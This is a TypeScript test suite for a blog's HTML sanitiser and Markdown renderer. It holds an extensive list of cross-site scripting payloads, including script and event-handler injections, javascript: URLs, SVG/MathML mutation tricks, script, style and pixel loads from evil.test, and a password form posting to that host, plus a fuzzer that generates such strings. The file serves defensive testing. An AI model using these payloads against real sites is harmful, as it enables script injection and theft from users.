import fc from 'fast-check';
import { Parser } from 'htmlparser2';
import { describe, expect, it } from 'vitest';
import { renderMarkdown as render } from './markdown.ts';
import { sanitise } from './sanitise.ts';

const renderMarkdown = async (text: string) => (await render(text)).html;

const elements = new Set(
  'h1 h2 h3 h4 h5 h6 p br hr blockquote pre code em strong b i u s del ins sub sup mark small kbd samp var abbr cite q dfn time a img ul ol li dl dt dd table caption colgroup col thead tbody tfoot tr th td figure figcaption details summary div span section article bdi bdo ruby rt rp wbr'.split(
    ' ',
  ),
);
const attributes = new Set(
  'id class dir lang title href rel src alt width height loading decoding start type reversed value align colspan rowspan span scope datetime open tabindex'.split(
    ' ',
  ),
);

/** What in `html`, as a browser reads it, could run, load or deceive. */
function dangers(html: string): string[] {
  const found: string[] = [];
  const resolve = (address: string) =>
    URL.canParse(address, 'https://here.test/blog/posts/x')
      ? new URL(address, 'https://here.test/blog/posts/x')
      : undefined;
  const parser = new Parser({
    onopentag(name, given) {
      if (!elements.has(name)) found.push(`<${name}>`);
      for (const [key, value] of Object.entries(given)) {
        if (!attributes.has(key)) found.push(`${name} ${key}=${value}`);
        if (key === 'href' && !['http:', 'https:', 'mailto:', undefined].includes(resolve(value)?.protocol))
          found.push(`href ${value}`);
        if (
          key === 'href' &&
          resolve(value)?.host !== 'here.test' &&
          resolve(value)?.protocol !== 'mailto:' &&
          !given.rel?.includes('nofollow')
        )
          found.push(`without rel: ${value}`);
        if (key === 'src' && resolve(value)?.host !== 'here.test') found.push(`src ${value}`);
        if (key === 'id' && !value.startsWith('user-content-')) found.push(`id ${value}`);
      }
    },
    oncomment: (text) => void found.push(`<!--${text}`),
    onprocessinginstruction: (name) => void found.push(`<${name}`),
  });
  parser.end(html);
  return found;
}

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\n>alert(1)</script\n>',
  '<script/x>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\x00=alert(1)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x`<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<IMG SRC=javascript:alert(1)>',
  '<img srcset="//evil.test/x 1x" src=x>',
  '<img src="//evil.test/pixel.gif">',
  '<img src="/\\evil.test/pixel.gif">',
  '<img src="/\t/evil.test/pixel.gif">',
  '<img src="\\\\evil.test\\pixel.gif">',
  '<img src=" https://evil.test/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="blob:https://here.test/x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\x01javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="livescript:x">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="view-source:javascript:1">x</a>',
  '<a href="//evil.test">x</a>',
  '<a href="https://evil.test" target="_blank" rel="opener">x</a>',
  '<a href="https://evil.test" ping="//evil.test">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a onclick=alert(1) href=/x>x</a>',
  '<body onload=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math href="javascript:alert(1)">x</math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<template><script>alert(1)</script></template>',
  '<select><template><style></select><img src=x onerror=alert(1)>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<style>@import "//evil.test/x.css"; body{background:url(//evil.test)}</style>',
  '<p style="background:url(//evil.test);position:fixed">x</p>',
  '<link rel=stylesheet href=//evil.test/x.css>',
  '<base href="//evil.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.test/" onload=alert(1)></iframe>',
  '<iframe src="https://evil.test/&quot;onload=alert(1)"></iframe>',
  '<frameset onload=alert(1)><frame src=//evil.test></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<audio src onloadstart=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<form action="//evil.test"><input name=password><button formaction=javascript:alert(1)>x</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<isindex action=javascript:alert(1) type=image>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<keygen autofocus onfocus=alert(1)>',
  '<div id="main" class="skip site-header" name="getElementById">x</div>',
  '<p id="__proto__">x</p>',
  '<div contenteditable onbeforeinput=alert(1)>x</div>',
  '<x onclick=alert(1) style="position:fixed;inset:0">x</x>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html><img src=x onerror=alert(1)>',
  '</p><script>alert(1)</script>',
  '<a href="x" title="</a><img src=x onerror=alert(1)>">y</a>',
  '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
  '<table background="javascript:alert(1)"><td background="//evil.test">',
  '<a\fhref="javascript:alert(1)">x</a>',
  '<img src=x:alert(1) onerror=eval(src)>',
  '[x](javascript:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert(1))',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](javascript&#58;alert(1))',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](//evil.test/p.gif)',
  '![x" onerror="alert(1)](/a.png)',
  '[![x](https://evil.test/p.gif)](javascript:alert(1))',
  '```"><script>alert(1)</script>\nx\n```',
  '```js onload=alert(1)\n<script>alert(1)</script>\n```',
  '# <img src=x onerror=alert(1)>',
  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
  '<scr\0ipt>alert(1)</scr\0ipt>',
];

describe('sanitised markup', () => {
  it.each(attacks)('runs, loads and clobbers nothing: %s', async (attack) => {
    for (const html of [
      sanitise(attack),
      await renderMarkdown(attack),
      await renderMarkdown(`*text* ${attack} **more**\n\n> ${attack}`),
    ])
      expect(dangers(html)).toEqual([]);
  });

  it('is seen by this test when it is not sanitised', () => {
    const harmless = [
      '<a href="x" title="</a><img src=x onerror=alert(1)>">y</a>',
      '<p title="&quot;><img src=x onerror=alert(1)>">x</p>',
      '<img/src=x/onerror=alert(1)>',
    ];
    const raw = attacks.filter((attack) => attack.startsWith('<') && !attack.startsWith('<javascript:'));
    expect(raw.filter((attack) => dangers(attack).length === 0)).toEqual(
      raw.filter((attack) => harmless.includes(attack)),
    );
  });

  it('keeps what articles are made of', () => {
    const article =
      '<h2 id="user-content-a">A</h2><p>b <em>c</em> <strong>d</strong> <a href="/e" title="f">g</a> <kbd>h</kbd></p><ol start="3"><li>i</li></ol><table><tbody><tr><td align="right">j</td></tr></tbody></table><figure><img src="/blog/media/k" alt="l" width="3" height="4" loading="lazy" decoding="async" /><figcaption>m</figcaption></figure><details open><summary>n</summary>o</details><blockquote dir="rtl" lang="he">p</blockquote>';
    expect(sanitise(article)).toBe(article);
  });

  it('shows a picture from elsewhere as a link, and inside of a link as text', () => {
    expect(sanitise('<img src="https://x.test/a.png" alt="A &lt;b&gt;">')).toBe(
      '<a class="picture-elsewhere" href="https://x.test/a.png" rel="nofollow ugc noopener">A &lt;b&gt;</a>',
    );
    expect(sanitise('<a href="/x">1<img src="//x.test/a.png" alt="B">2</a><img src="//x.test/b.png"> after')).toBe(
      '<a href="/x">1<span class="picture-elsewhere">B</span>2</a><a class="picture-elsewhere" href="//x.test/b.png" rel="nofollow ugc noopener">Picture</a> after',
    );
  });

  it("says nothing for others' links, and nothing about our own", () => {
    expect(
      sanitise(
        '<a href="https://x.test/">x</a> <a href="mailto:a@b.c">m</a> <a href="/y">y</a> <a href="../z#q">z</a>',
      ),
    ).toBe(
      '<a href="https://x.test/" rel="nofollow ugc noopener">x</a> <a href="mailto:a@b.c">m</a> <a href="/y">y</a> <a href="../z#q">z</a>',
    );
  });
});

/** Strings that look like HTML written by somebody who means harm. */
const word = fc.constantFrom(
  ...'script style svg math img a p b div iframe textarea title noscript xmp table td select template form input pre code span foreignObject mglyph mtext annotation-xml body html details'.split(
    ' ',
  ),
);
const attribute = fc.constantFrom(
  ...'onerror onload onclick src href style id class srcset xlink:href formaction action srcdoc name title alt rel background poster data'.split(
    ' ',
  ),
);
const value = fc.constantFrom(
  'javascript:alert(1)',
  'java\tscript:1',
  '//evil.test/x',
  '/\\evil.test',
  'data:text/html,x',
  'https://evil.test/',
  '/ok',
  '#x',
  '"',
  "'",
  '<',
  '>',
  '&quot;',
  '--&gt;',
  '</style>',
  '\0',
  'vbscript:x',
  ' javascript:1',
  '&#106;avascript:1',
);
const quote = fc.constantFrom('"', "'", '', '`');
const fragment = fc.oneof(
  fc
    .tuple(word, fc.array(fc.tuple(attribute, quote, value), { maxLength: 3 }), fc.constantFrom('>', '/>', '', ' >'))
    .map(
      ([name, given, end]) =>
        `<${name}${given.map(([key, mark, text]) => ` ${key}=${mark}${text}${mark}`).join('')}${end}`,
    ),
  word.map((name) => `</${name}>`),
  fc.constantFrom(
    '<!--',
    '-->',
    '--!>',
    '<![CDATA[',
    ']]>',
    '<?',
    '<!',
    '</',
    '<',
    '>',
    '"',
    "'",
    '`',
    '&lt;',
    '&#x3c;',
    '\0',
    '\n\n',
    '    ',
    '[x](',
    ')',
    '](',
    '![',
    '```',
    '|---|',
    '* ',
    '> ',
    'text',
  ),
  fc.string({ maxLength: 8 }),
);
const htmlish = fc.array(fragment, { maxLength: 14 }).map((fragments) => fragments.join(''));

function textOf(html: string): string {
  let text = '';
  new Parser({ ontext: (data) => void (text += data) }).end(html);
  return text;
}

describe('whatever is written', () => {
  it('comes out without anything that runs, loads or clobbers', () => {
    const safe = (text: string) => void expect(dangers(sanitise(text))).toEqual([]);
    fc.assert(fc.property(htmlish, safe), { numRuns: 3000 });
  });
  it('reads the same when it is sanitised again: nothing in it is seen differently the second time', () => {
    const settled = (text: string) => void expect(textOf(sanitise(sanitise(text)))).toBe(textOf(sanitise(text)));
    fc.assert(fc.property(htmlish, settled), { numRuns: 2000 });
  });
  it('closes no element of the page around it', () => {
    const contained = (text: string) => {
      let depth = 0;
      for (const [, slash] of sanitise(text).matchAll(/<(\/?)(?:div|section|article)\b/g))
        expect((depth += slash ? -1 : 1)).toBeGreaterThanOrEqual(0);
      expect(depth).toBe(0);
    };
    fc.assert(fc.property(htmlish, contained), { numRuns: 2000 });
  });
  it('comes out safe from Markdown as well', async () => {
    // Formulas are MathML, which the fuzz of whole documents looks into.
    const formulas = /<math\b[^<>]*>.*?<\/math>/gs;
    const safe = async (text: string) =>
      void expect(dangers((await renderMarkdown(text)).replace(formulas, ''))).toEqual([]);
    await fc.assert(fc.asyncProperty(htmlish, safe), { numRuns: 1500 });
  });
});
